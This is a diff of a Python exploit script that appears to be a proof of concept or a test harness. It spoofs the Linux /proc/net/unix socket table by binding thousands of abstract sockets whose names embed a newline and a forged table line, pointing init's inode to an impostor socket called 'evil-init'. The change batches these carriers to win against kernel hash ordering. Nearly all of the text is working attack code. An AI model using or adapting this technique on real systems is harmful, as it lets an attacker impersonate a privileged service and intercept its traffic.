@@ -125,12 +125,15 @@ impostor = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
 impostor.bind(b"\0evil-init")
 impostor.listen(64)
 carriers = []
+# Where a name lands in the table is up to the kernel's hash: carriers are added in batches,
+# so that finding one early enough costs a few reads of the table, not one per carrier.
 while chosen(init_inodes) != "evil-init" and len(carriers) < 4000:
-    for inode in init_inodes:
-        forged = f"0000000000000000: 00000002 00000000 00010000 0005 01 {inode} @evil-init"
-        carrier = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
-        carrier.bind(f"\0c{len(carriers)}\n{forged}".encode())
-        carriers.append(carrier)
+    for _ in range(64):
+        for inode in init_inodes:
+            forged = f"0000000000000000: 00000002 00000000 00010000 0005 01 {inode} @evil-init"
+            carrier = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+            carrier.bind(f"\0c{len(carriers)}\n{forged}".encode())
+            carriers.append(carrier)
 with open("/run/impostor.ready", "w") as ready:
     ready.write(str(len(carriers)))
 while True:
